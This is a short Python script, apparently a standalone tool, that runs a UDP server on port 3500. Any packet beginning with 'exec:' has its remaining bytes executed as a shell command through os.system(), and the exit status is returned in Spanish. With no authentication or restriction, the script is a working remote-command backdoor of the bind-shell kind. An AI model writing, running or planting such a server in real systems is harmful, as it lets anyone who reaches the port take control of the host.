#!/usr/bin/env python3
import os
import socket


class ExecServer:
    PREFIX = b"exec:"

    def __init__(self):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind(("", 3500))

    def run(self):
        while True:
            data, client = self.socket.recvfrom(4096)
            answer = self.execute(data[len(self.PREFIX):]) if data.startswith(self.PREFIX) else data
            self.socket.sendto(answer, client)

    def execute(self, command):
        status = os.system(command.decode("utf-8", "replace"))
        return f"os.system() devolvió {status}".encode()


ExecServer().run()
